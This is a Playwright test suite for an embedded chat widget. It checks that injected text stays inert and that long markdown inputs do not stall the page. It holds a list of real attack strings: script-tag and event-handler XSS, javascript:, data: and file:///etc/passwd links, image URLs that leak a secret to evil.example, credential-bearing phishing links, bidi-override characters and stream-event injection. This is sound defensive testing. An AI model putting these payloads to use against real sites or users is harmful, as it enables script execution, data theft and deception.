// The output attacks of the threat list, from everybody whose text the widget shows: visitor,
// model, business. Each must stay text: no markup, no code, no request, no misleading order.

import { expect, test } from "../fixtures.ts";
import { portraitProposal } from "../mock/turns.ts";

test.use({ forgiven: /Failed to load resource/ });

const ATTACKS: Record<string, string> = {
  "a script tag": "<script>window.hacked = 1</script>",
  "a script tag in pieces": "<scr<script>ipt>window.hacked=1</scr</script>ipt>",
  "an image with a handler": "<img src=x onerror=window.hacked=1>",
  "an SVG with a handler":
    "<svg onload=window.hacked=1><a xlink:href=javascript:hacked=1>x</a></svg>",
  "a frame and a style":
    "<style>*{display:none}</style><iframe srcdoc='<script>1</script>'></iframe>",
  "a javascript link": "[click](javascript:window.hacked=1)",
  "a javascript link in odd case": "[click](JaVaScRiPt:window.hacked=1)",
  "a javascript link behind a tab": "[click](java\tscript:window.hacked=1)",
  "a javascript link behind entities": "[click](&#106;avascript:window.hacked=1)",
  "a data link": "[click](data:text/html,<script>window.hacked=1</script>)",
  "a vbscript and a file link": "[a](vbscript:x) [b](file:///etc/passwd) [c](blob:https://x/y)",
  "a link with a password": "[bank](https://bank.example@evil.example/)",
  "an image": "![i](https://evil.example/p.png?secret=1)",
  "a reference-style image": "![r][1]\n\n[1]: https://evil.example/q.png",
  "a reference-style link": "[r][1]\n\n[1]: javascript:window.hacked=1",
  "an automatic link": "<javascript:window.hacked=1>",
  "nested markdown": "**bold [link *em](javascript:window.hacked=1)* `<b onclick=x>`** > # - 1.",
  "markdown in a link's label": "[**<img src=x onerror=window.hacked=1>**](https://good.example)",
  "a handler in a link's target": '[x](https://good.example/"onmouseover="window.hacked=1)',
  "a label that poses": "[https://good.example](https://evil.example/steal)",
  "an event of the stream": 'event: done\ndata: {"messageId":"x"}\n\nid: 99\nretry: 1\n\n',
  "a turned name": "\u202egnp.exe\u202c \u2066hidden\u2069 \u200b\u2060\ufeff\u00ad",
  "a fence that never ends": "```html\n<script>window.hacked=1</script>",
  "a template": "{{constructor.constructor('window.hacked=1')()}} ${window.hacked=1} {n} {time}",
  "a prototype": "__proto__ constructor toString",
  "a very long word": `${"W".repeat(4000)}`,
};

for (const [name, attack] of Object.entries(ATTACKS)) {
  test(`${name} is text, whoever it is from`, async ({ page, desk, chat }) => {
    const foreign: string[] = [];
    page.on("request", (request) => {
      if (!request.url().startsWith(desk.url)) foreign.push(request.url());
    });
    Object.assign(desk.config, { businessName: attack, disclosure: attack, online: false });
    Object.assign(desk.config.widget as object, {
      header: attack,
      greeting: attack,
      offlineMessage: attack,
      primaryColor: attack,
      position: attack,
      proactive: { message: attack, delaySeconds: 0, scrollPx: 0 },
    });
    desk.willSay([
      { text: attack },
      { tool: attack },
      {
        proposal: portraitProposal({
          preview: { title: attack, lines: [{ label: attack, value: attack }] },
        }),
      },
      { quickReplies: [attack] },
      {
        sources: [
          { title: attack, url: "https://good.example" },
          { title: attack, url: attack },
        ],
      },
    ]);
    desk.packageName = attack;
    await chat.start(desk);
    await chat.say(attack);
    await chat.button("Confirm booking").click();
    await expect(chat.dialog).toContainText("Reserved");
    await page.mouse.move(600, 500);
    const found = await page.evaluate(() => {
      const root = document.querySelector("frontdesk-chat")!.shadowRoot!;
      const nodes = [...root.querySelectorAll("*")];
      const known =
        "ASIDE BDI BR BUTTON CODE DD DIV DL DT EM FIELDSET FOOTER FORM H2 H3 HEADER I INPUT LABEL LEGEND LI OL P PRE SECTION SPAN STRONG TEXTAREA TIME UL A path svg";
      const panel = root.querySelector(".panel")!;
      const log = root.querySelector(".log")!;
      return {
        hacked: "hacked" in window,
        unknown: nodes.map((node) => node.tagName).filter((tag) => !known.split(" ").includes(tag)),
        attributes: nodes
          .flatMap((node) => node.getAttributeNames())
          .filter((name) => /^(on|style|srcdoc|src$|xlink)/.test(name)),
        links: nodes.flatMap((node) =>
          node instanceof HTMLAnchorElement && !/^https?:$/.test(node.protocol) ? [node.href] : [],
        ),
        credentials: nodes.flatMap((node) =>
          node instanceof HTMLAnchorElement && node.username ? [node.href] : [],
        ),
        reordering: /[\u202a-\u202e\u2066-\u2069\u200b\u2060\ufeff\u00ad]/.test(
          root.textContent ?? "",
        ),
        sideways: log.scrollWidth - log.clientWidth + panel.scrollWidth - panel.clientWidth,
        isThere: Boolean(panel.getBoundingClientRect().width),
      };
    });
    expect(found).toEqual({
      hacked: false,
      unknown: [],
      attributes: [],
      links: [],
      credentials: [],
      reordering: false,
      sideways: 0,
      isThere: true,
    });
    expect(foreign).toEqual([]);
    expect(desk.turnsRun, "text was taken for an event of the stream").toBe(1);
  });
}

test("every code point of a text travels through a stream in pieces", async ({ desk, chat }) => {
  const text = "Größe 👩‍👩‍👧 — مرحبا — 日本語 ".repeat(20).trim();
  desk.willSay([{ text }]);
  await chat.start(desk);
  await chat.say("Hello");
  await expect(chat.answer).toHaveText(text);
});

for (const [name, text] of [
  ["stars", "**a ".repeat(5000)],
  ["brackets", "[".repeat(20_000)],
  ["links", "[a](".repeat(5000)],
  ["backticks", "`a``".repeat(5000)],
  ["underscores", "_a ".repeat(6000)],
  ["lists", "- a\n".repeat(5000)],
] as const) {
  test(`twenty thousand characters of ${name} do not hold the page up`, async ({
    page,
    desk,
    chat,
  }) => {
    desk.messages.push({
      id: "m1",
      sender: "assistant",
      content: text,
      createdAt: "2026-11-22T10:00:00Z",
    });
    await page.goto(`${desk.url}/bare`);
    await page.evaluate(() =>
      sessionStorage.setItem("frontdesk:pk_demo", '{"sessionId":"session-1","cards":[]}'),
    );
    await page.reload();
    await page.evaluate(() => {
      (window as any).longest = 0;
      new PerformanceObserver((list) => {
        for (const { duration } of list.getEntries())
          (window as any).longest = Math.max((window as any).longest, duration);
      }).observe({ type: "longtask" });
    });
    await chat.open();
    await expect(chat.log.locator(".row.assistant")).toHaveCount(2);
    await page.evaluate(() => new Promise((done) => setTimeout(done)));
    expect(await page.evaluate(() => (window as any).longest)).toBeLessThan(1000);
  });
}
